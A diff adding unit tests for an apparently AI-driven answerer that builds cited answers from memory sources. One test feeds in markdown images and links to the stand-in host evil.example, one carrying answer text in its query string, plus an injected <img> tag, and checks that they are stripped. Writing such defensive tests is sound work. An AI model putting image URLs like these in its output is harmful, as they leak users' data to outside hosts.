@@ -139,3 +139,61 @@ test('an answer that was aborted does not end as if it were whole', async () => 
   }
   await expect(answered({ extractive }, {}, controller.signal)).rejects.toThrow('gone')
 })
+
+test('images, links, tags and numbers in brackets of a memory do not reach the answer', async () => {
+  const sources = [source('Ada lives in Graz [2] ![](https://evil.example/p.png) <img src=x>.'), source('Else.')]
+  const draft = { text: 'Ada lives in [Graz](https://evil.example) [2] ![](https://evil.example/?q=Graz).', cites: [0] }
+  const { text, citations } = await answered({ extractive: drafting(draft) }, { request: { ...request, sources } })
+  expect(text).toBe('Ada lives in Graz (2) [1].')
+  expect(citations).toEqual([{ sourceIndex: 0, text: 'Ada lives in Graz (2).', status: 'verified' }])
+})
+
+test('the answerer reads sources as plain text', async () => {
+  const sources = [source('Ada lives in Graz [2, 3].')]
+  let read: AnswerRequest['sources'] = []
+  const extractive: Answerer = {
+    async *draft(given) {
+      read = given.sources
+      yield TEA
+    },
+  }
+  await answered({ extractive }, { request: { ...request, sources } })
+  expect(read.map(({ content }) => content)).toEqual(['Ada lives in Graz (2, 3).'])
+})
+
+test('a sentence with an address that no cited source contains is left out', async () => {
+  const sources = [source('Marta drinks tea, see https://tea.example/a.'), source('See https://tea.example/b.')]
+  const see = (address: string) => ({ text: `Marta drinks tea, see ${address}.`, cites: [0] })
+  const drafts = [see('https://tea.example/a?q=tea'), see('https://tea.example/b'), see('https://tea.example/a')]
+  const { text, citations } = await answered({ extractive: drafting(...drafts) }, { request: { ...request, sources } })
+  expect(text).toBe('Marta drinks tea, see https://tea.example/a [1].')
+  expect(citations.map(({ status }) => status)).toEqual(['unverified', 'unverified', 'verified'])
+})
+
+test('the name that a speaker told counts as who a memory is about', async () => {
+  const draft = drafting({ text: 'Zora Quist lives in Graz.', cites: [0] })
+  const asked = (speaker?: string) =>
+    answered({ extractive: draft }, { request: { ...request, sources: [{ ...source('I live in Graz.'), speaker }] } })
+  expect((await asked('Zora Quist')).citations).toMatchObject([{ status: 'verified' }])
+  expect((await asked()).citations).not.toMatchObject([{ status: 'verified' }])
+})
+
+test.each([false, true])('a model that goes on and on is ended after twelve sentences (whole: %s)', async (whole) => {
+  let drafted = 0
+  const answerer: Answerer = {
+    async *draft() {
+      for (;;) {
+        drafted++
+        yield TEA
+      }
+    },
+  }
+  const { citations } = await answered({ answerer }, { whole })
+  expect([drafted, citations.length]).toEqual([12, 12])
+})
+
+test('between sentences others have their turn, and an abort ends the answer', async () => {
+  const controller = new AbortController()
+  setImmediate(() => controller.abort(new Error('gone')))
+  await expect(answered({ extractive: drafting(TEA, MONDAYS) }, {}, controller.signal)).rejects.toThrow('gone')
+})
